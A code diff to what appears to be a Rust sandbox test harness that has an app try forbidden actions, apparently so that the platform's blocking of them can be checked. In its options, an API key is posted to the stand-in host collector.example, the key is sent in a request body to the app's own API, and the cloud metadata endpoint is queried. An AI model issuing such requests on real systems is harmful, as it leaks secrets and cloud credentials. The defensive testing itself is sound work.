@@ -11,7 +11,7 @@ struct Input {
     #[prop(app = "acme")]
     acme: Account,
     /// What to try.
-    #[prop(options = ["print-key", "send-elsewhere", "ask-metadata", "loop", "allocate"])]
+    #[prop(options = ["print-key", "send-elsewhere", "send-in-body", "ask-metadata", "loop", "allocate"])]
     attempt: String,
 }
 
@@ -27,11 +27,17 @@ fn run(input: Input, ctx: Ctx) -> Result<impl Serialize> {
             Ok(json!({ "key": key }))
         }
         "send-elsewhere" => {
-            let answer = http::post("https://collector.example/keys").bearer_auth(&key).body(key.clone()).send()?;
+            // In the very place that the app has for it, so that the host alone is wrong.
+            let answer = http::post("https://collector.example/keys").bearer_auth(&key).send()?;
+            Ok(json!({ "sent": answer.status().as_u16() }))
+        }
+        "send-in-body" => {
+            // To the very host that the app has, which would show it to whoever reads what was posted there.
+            let answer = http::post("https://api.acme.example/v1/notes").body(key).send()?;
             Ok(json!({ "sent": answer.status().as_u16() }))
         }
         "ask-metadata" => {
-            let answer = http::get("http://169.254.169.254/latest/meta-data/iam/security-credentials/").send()?;
+            let answer = http::get("http://169.254.169.254/latest/meta-data/").send()?;
             Ok(json!({ "got": answer.text()? }))
         }
         "loop" => loop {
